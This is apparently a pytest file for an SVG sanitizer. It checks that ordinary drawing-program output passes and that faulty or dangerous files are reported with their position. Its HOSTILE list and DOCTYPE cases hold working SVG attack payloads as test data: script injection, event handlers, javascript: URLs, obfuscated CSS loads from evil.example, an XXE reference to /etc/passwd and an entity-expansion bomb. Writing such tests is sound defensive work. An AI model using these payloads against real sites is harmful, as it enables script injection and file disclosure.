"""Drawings: what drawing programs write is let through, what runs or leads elsewhere is told with its place."""

import pytest

from palmarium.images import PictureShape, look
from tests.photos import painted, saved

SVG = 'xmlns="http://www.w3.org/2000/svg"'
LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
BOX = 'viewBox="0 0 30 20"'


def told(text: str | bytes) -> list[str]:
    data = text if isinstance(text, bytes) else text.encode()
    shape, problems = look("content/media/a.svg", data)
    assert shape is None or not problems
    return [f"{p.span.line}:{p.span.column}: {p.message}  [{p.code}] ({p.hint})" for p in problems]


def inside(text: str) -> list[str]:
    """What is told of what stands inside of a sound drawing, on its second line."""
    return told(f"<svg {SVG} {LINK} {BOX}>\n{text}\n</svg>")


def shape_of(attributes: str) -> PictureShape:
    shape, problems = look("content/media/a.svg", f"<svg {SVG} {attributes}/>".encode())
    assert shape, problems
    return shape


INKSCAPE = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with a drawing program -->
<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5" {SVG} {LINK}
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.2"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" sodipodi:docname="a.svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" inkscape:zoom="0.5" />
  <defs id="defs2"><linearGradient id="g" xlink:href="#h" gradientTransform="matrix(1,0,0,1,0,0)"/>
  <linearGradient id="h"><stop style="stop-color:#000;stop-opacity:1" offset="0"/></linearGradient></defs>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format>
  <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>
  <g inkscape:label="Layer (1)" inkscape:groupmode="layer" id="layer1">
    <path style="fill:url(#g);stroke:none;font-family:'My Sans'" d="M 1,2 3,4 z" sodipodi:nodetypes="ccc"/>
    <text xml:space="preserve" x="1" y="2"><tspan sodipodi:role="line">é &amp; &#160;</tspan></text>
    <use xlink:href="#layer2" transform="translate(3 4)" width="100%" height="100%"/>
  </g><g id="layer2"/>
</svg>
"""
ILLUSTRATOR = f"""<?xml version="1.0" encoding="utf-8"?>
<svg version="1.1" id="Ebene_1" {SVG} {LINK} x="0px" y="0px" viewBox="0 0 100 50"
  style="enable-background:new 0 0 100 50;" xml:space="preserve" data-name="Ebene 1(2)">
<style type="text/css"><![CDATA[ .st0{{fill:#E30613;}} @media (prefers-color-scheme: dark) {{ .st0 {{ fill: #fff }} }}
  .st1{{clip-path:url(#SVGID_2_); font-family:'MyriadPro-Regular';}} @keyframes a {{ to {{ opacity: 0 }} }} ]]></style>
<switch><g><rect class="st0" width="10" height="10"/><image width="1" height="1"
  xlink:href="data:image/png;base64,iVBORw0KGgo="/></g></switch></svg>
"""
FIGMA = f"""<svg width="24" height="24" viewBox="0 0 24 24" fill="none" {SVG} role="img" aria-label="A(b)"
focusable="false"><title>A</title><g filter="url(#f)" style="mix-blend-mode:multiply"><path fill-rule="evenodd"
 d="M0 0h24v24H0z" fill="url('#p')"/></g><defs>
<filter id="f" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB">
<feGaussianBlur in="SourceGraphic" stdDeviation="2" result="a"/><feColorMatrix in="a" values="0 0 0 0 0"/></filter>
<radialGradient id="p" gradientUnits="userSpaceOnUse"/></defs>
<circle r="3"><animate attributeName="opacity" values="0;1" dur="1s" repeatCount="indefinite"/>
<animateTransform attributeName="transform" type="rotate" from="0 1 1" to="360 1 1" dur="2s"/></circle></svg>
"""


@pytest.mark.parametrize("text", [INKSCAPE, ILLUSTRATOR, FIGMA, f"\ufeff<svg {SVG} {BOX}/>\n<!-- a -->"])
def test_what_drawing_programs_write_is_let_through(text: str) -> None:
    assert told(text) == []


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("", "1:1: this drawing is empty  [picture] (save it again"),
        (" \n ", "1:1: this drawing is empty  [picture]"),
        ("not a drawing", "1:1: this is no drawing (SVG), whatever it is called  [picture]"),
        (f'<svg {SVG} {BOX}><g><circle r="14"/>', "1:80: this drawing is cut off: <g> does not end  [picture] (save"),
        (f'<svg {SVG} {BOX}><g><circle r="1', "this drawing is cut off: <g> does not end"),
        ("<!-- a", "1:1: this drawing is cut off  [picture]"),
        (f"<svg {SVG} {BOX}>\n<g></svg>", "2:6: <g> is still open here  [picture] (write </g> before it)"),
        (f"<svg {SVG} {BOX}>\n<text>é &nbsp; b</text></svg>", "2:9: XML has no such name of a character  [picture]"),
        (f'<svg {SVG} {BOX}>\n<g a="1" a="2"/></svg>', "this attribute stands twice  [picture] (delete one of them)"),
        (f"<svg {SVG} {BOX}>\n<x:g/></svg>", "this prefix is not declared  [picture] (write its xmlns"),
        (f"<svg {SVG} {BOX}/>\n<svg/>", "2:1: something stands behind the end of <svg>  [picture] (delete it)"),
        (f"\n<?xml version='1.0'?><svg {SVG}/>", "2:1: something stands before <?xml"),
        (f"<svg {SVG} {BOX}>\n a < b</svg>", "2:5: this is not XML"),
        ("<!doctype html><html><body>404</body></html>", "this is a page (HTML), not a drawing"),
        ("<html><body>404</body></html>", "1:1: this is a page (HTML), not a drawing  [picture] (download"),
        ('<svg viewBox="0 0 50 40"><circle r="14"/></svg>', "1:1: this <svg> does not say that it is SVG, so no"),
        (f"<g {SVG}/>", "1:1: this is no drawing: it begins with <g>, not with <svg>"),
        ('<svg xmlns="http://www.w3.org/1999/xhtml"/>', "1:1: this is no drawing"),
        (f"<svg {SVG}>\n\xe9".encode("latin-1"), "2:1: this drawing is not UTF-8  [picture] (save it again as UTF-8)"),
        (f"<svg {SVG} {BOX}/>".encode("utf-16"), "1:1: this drawing is not UTF-8"),
        (f"<svg {SVG} {BOX}/>".encode("utf-16-le"), "1:2: this drawing is not UTF-8"),
        (f'<?xml version="1.0" encoding="ISO-8859-1"?><svg {SVG}/>', '1:1: this drawing says that it is "ISO-8859-1"'),
        (f'<?xml version="1.0" encoding="UTF-7"?><svg {SVG} {BOX}/>', '1:1: this drawing says that it is "UTF-7"'),
        (saved(painted(9, 9), "PNG"), "1:1: this is a PNG picture, not .svg  [picture] (rename it a.png)"),
    ],
)
def test_what_is_no_drawing_is_told_with_its_place(text: str | bytes, line: str) -> None:
    [said] = told(text)
    assert line in said


def test_a_drawing_cut_anywhere_is_told_and_no_traceback() -> None:
    data = ILLUSTRATOR.encode()
    for end in range(0, len(data) - 8, 5):
        assert told(data[:end])


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('<!DOCTYPE svg [<!ENTITY a "b">]>\n', "this drawing holds a DOCTYPE"),
        ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/svg11.dtd">\n', "a DOCTYPE"),
        ('<!DOCTYPE svg SYSTEM "file:///etc/passwd">', "this drawing holds a DOCTYPE"),
        ('<?xml-stylesheet href="//evil.example/a.css"?>', "holds an instruction to a program, <?xml-stylesheet"),
        ("<?php echo 1 ?>", "holds an instruction to a program, <?php"),
    ],
)
def test_declarations_that_change_what_a_drawing_says_are_refused(text: str, line: str) -> None:
    [said] = told(f"{text}<svg {SVG} {BOX}>&a;<script/></svg>")
    assert line in said
    assert said.startswith("1:1:")


BOMB = '<!DOCTYPE a [<!ENTITY e1 "ha">' + "".join(f'<!ENTITY e{n} "&e{n - 1};&e{n - 1};">' for n in range(2, 40))

HOSTILE = (
    "<script>alert(1)</script>",
    "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml' src='//evil.example/x.js'/>",
    "<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>",
    "<h:iframe xmlns:h='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
    "<metadata><h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script></metadata>",
    "<title><script>alert(1)</script></title>",
    "<g onload='alert(1)'/>",
    "<g ONLOAD='alert(1)'/>",
    "<g onfocusin='alert(1)' tabindex='0'/>",
    "<set attributeName='onmouseover' to='alert(1)'/>",
    "<animate attributeName='href' values='javascript:alert(1)'/>",
    "<animate attributeName='xlink:href' to='javascript:alert(1)'/>",
    "<set attributeName='style' to='background:url(//evil.example)'/>",
    "<set attributeName='fill' to='url(//evil.example/a.svg#b)'/>",
    "<animate attributeName='filter' values='none;url(//evil.example/a.svg#b)'/>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<a xlink:href='https://evil.example/'><text>x</text></a>",
    "<use href='data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;alert(1)&quot;/>#x'/>",
    "<use xlink:href='//evil.example/a.svg#b'/>",
    "<use xlink:href=' \n//evil.example/a.svg#b'/>",
    "<image href='https://evil.example/a.png'/>",
    "<image href='data:image/svg+xml;base64,PHN2Zz4='/>",
    "<image href='a.png'/>",
    "<feImage xlink:href='//evil.example/a.png'/>",
    "<textPath href='//evil.example/a.svg#b'/>",
    "<style>@import '//evil.example/a.css';</style>",
    "<style>@\\69mport '//evil.example/a.css';</style>",
    "<style>a{b:url(//evil.example)}</style>",
    "<style>a{b:u\\72l(//evil.example)}</style>",
    "<style>a{b:UrL( \n'//evil.example')}</style>",
    "<style>a{b:image-set('//evil.example' 1x)}</style>",
    "<style>@font-face{src:url(//evil.example/a.woff)}</style>",
    "<style>a{b:expression(alert(1))}</style>",
    "<style><![CDATA[ @import url(//evil.example); ]]></style>",
    "<style>/* */@import/**/'//evil.example';</style>",
    "<style>a{b:'/*'} @import '//evil.example/a.css'; c{d:'*/'}</style>",
    "<style>a{b:'/*';c:url(//evil.example/a.png);d:'*/'}</style>",
    "<style>a{b:url(#a/*b);c:url(//evil.example/a.png);d:url(#*/)}</style>",
    "<style>a{b:'\n;c:image-set(\"//evil.example/a.png\" 1x);d:'}</style>",
    "<style>a{b:url<style></style>(//evil.example/a.png)}</style>",
    "<style>@imp<x:style xmlns:x='http://ns.adobe.com/'/>ort '//evil.example/a.css';</style>",
    '<g style=\'a:"/*";fill:url(//evil.example/a.svg#b);c:"*/"\'/>',
    "<rect fill='url(//evil.example/a.svg#b)'/>",
    "<rect style='fill:url(https://evil.example/a.svg#b)'/>",
    "<rect style='fill:url(data:image/svg+xml,x)'/>",
    "<rect filter='url(javascript:alert(1))'/>",
    "<g xml:base='//evil.example/'/>",
    "<x:g xmlns:x='http://ns.adobe.com/' xml:base='//evil.example/'><use href='#a'/></x:g>",
    "<g ev:event='load' xmlns:ev='http://www.w3.org/2001/xml-events'/>",
    "<handler xmlns='http://www.w3.org/2000/svg' type='text/javascript'>alert(1)</handler>",
    "<x:b xmlns:x='http://www.mozilla.org/xbl'/>",
    "<m:math xmlns:m='http://www.w3.org/1998/Math/MathML'/>",
    "<iframe src='//evil.example'/>",
    "<image src='x'/>",
    "<g formaction='x'/>",
    "<audio href='x'/>",
    "<discard href='#a'/>",
)
"""What would run, or fetch something from elsewhere, in a browser that opens the drawing."""


@pytest.mark.parametrize("text", HOSTILE)
def test_what_runs_or_leads_elsewhere_is_told_with_its_line(text: str) -> None:
    found = inside(text)
    assert found
    assert all(line.startswith(("2:", "3:")) and "[unsafe-picture]" in line and "()" not in line for line in found)


@pytest.mark.parametrize("text", ["<bad/>\n", "<style>a{b:c(//x)}</style>\n", "<g a='1' b='2'/>\n"])
def test_of_thousands_of_faults_the_first_hundred_are_told(text: str) -> None:
    found = inside(text * 20_000)
    assert len(found) == 101
    assert "100 things are wrong before this place; what comes behind it was not looked at" in found[-1]


def test_what_refers_to_nothing_a_thousand_times_is_counted_once() -> None:
    # Each of the parts is reached in twice as many ways as the one before.
    many = " ".join(f"url(#z{number})" for number in range(2000))
    parts = (
        f'<g id="{id}{n}" style="fill:{many}"><use href="#a{n + 1}"/><use href="#b{n + 1}"/></g>'
        for n in range(16)
        for id in "ab"
    )
    assert inside("".join(parts)) == []


def test_all_that_is_wrong_is_told_at_once_with_its_column() -> None:
    assert inside('<g é="1" onclick="x"><script/>\n<image xlink:href="a.png"/></g>') == [
        '2:4: the attribute "é" is not one that a drawing needs  [unsafe-picture] (delete it)',
        '2:10: the attribute "onclick" holds a script  [unsafe-picture] (delete it)',
        "2:22: a drawing may not hold <script>  [unsafe-picture] (delete it: a picture shows, and does nothing)",
        '3:14: "a.png" leads out of this drawing  [unsafe-picture] (put the picture itself into the drawing)',
    ]


def test_entities_never_grow() -> None:
    [said] = told(f"{BOMB}]><svg {SVG}>&e39;</svg>")
    assert "DOCTYPE" in said


@pytest.mark.parametrize(
    "text",
    [
        "".join(f"<g id='a{n}'><use href='#a{n + 1}'/><use href='#a{n + 1}'/></g>" for n in range(40)),
        "".join(f"<mask id='a{n}'><g mask='url(#a{n + 1})'/><g mask='url(#a{n + 1})'/></mask>" for n in range(40)),
        "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>",
        "<g id='a'><use href='#a'/></g>",
    ],
)
def test_parts_that_show_each_other_without_end_are_told(text: str) -> None:
    [said] = inside(text)
    assert "show each other so often that no browser would end" in said


def test_a_drawing_nests_and_weighs_only_so_much() -> None:
    assert "this drawing nests too deeply" in inside("<g>" * 200 + "</g>" * 200)[0]
    assert "this drawing has 11 MB; 10 MB at most" in told(b"<svg>" + b" " * 10_000_001)[0]
    assert inside("<use href='#a'/>" * 2000 + "<g id='a'><path/></g>") == []


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        ('viewBox="0 0 30.4 20"', (30, 20)),
        ('viewBox="-5,-5 , 30 20"', (30, 20)),
        ('width="300" height="200px" viewBox="0 0 3 2"', (300, 200)),
        ('width="60" viewBox="0 0 30 20"', (60, 40)),
        ('height="60" viewBox="0 0 30 20"', (90, 60)),
        ('width="25.4mm" height="1in"', (96, 96)),
        ('width="100%" height="auto" viewBox="0 0 30 20"', (30, 20)),
        ('viewBox="0 0 0.2 0.1"', (1, 1)),
    ],
)
def test_the_size_is_that_of_its_sides_or_of_its_box(attributes: str, size: tuple[int, int]) -> None:
    shape = shape_of(attributes)
    assert (shape.width, shape.height) == size


@pytest.mark.parametrize(
    "attributes", ["", 'viewBox="0 0 a 3"', 'viewBox="0 0 -1 3"', 'viewBox="0 0 1e400 1"', 'width="9e999"', 'width="9"']
)
def test_a_drawing_that_does_not_say_how_large_it_is_is_told(attributes: str) -> None:
    shape, [problem] = look("content/media/a.svg", f"<svg {SVG} {attributes}/>".encode())
    assert shape
    assert (shape.width, shape.height) == (0, 0)
    assert problem.message == "this drawing does not say how large it is"
